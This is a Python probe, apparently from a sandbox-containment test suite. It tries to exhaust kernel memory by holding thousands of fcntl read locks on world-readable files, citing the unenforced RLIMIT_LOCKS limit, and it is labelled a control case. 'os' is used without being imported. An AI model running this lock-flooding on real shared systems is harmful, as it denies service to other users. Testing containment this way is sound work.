"""Lock every second byte of a file that anybody may read.

origin: RLIMIT_LOCKS has not been enforced since Linux 2.4.25
why: each lock is two hundred bytes of the kernel's, and their number has no limit
control: succeeds
"""

import fcntl
import glob
import struct


def attack(target):
    last = nothing("no file can be read")
    for path in (os.__file__, target["secret"], *glob.glob("/usr/share/zoneinfo/*")):
        try:
            with open(path, "rb") as file:
                for number in range(3000):
                    lock = struct.pack("hhqqhh4x", fcntl.F_RDLCK, 0, (1 << 40) - 2 * number, 1, 0, 0)
                    fcntl.fcntl(file, fcntl.F_SETLK, lock)
                return escaped("3000 locks are held")
        except OSError as error:
            last = blocked("fcntl", error)
    return last
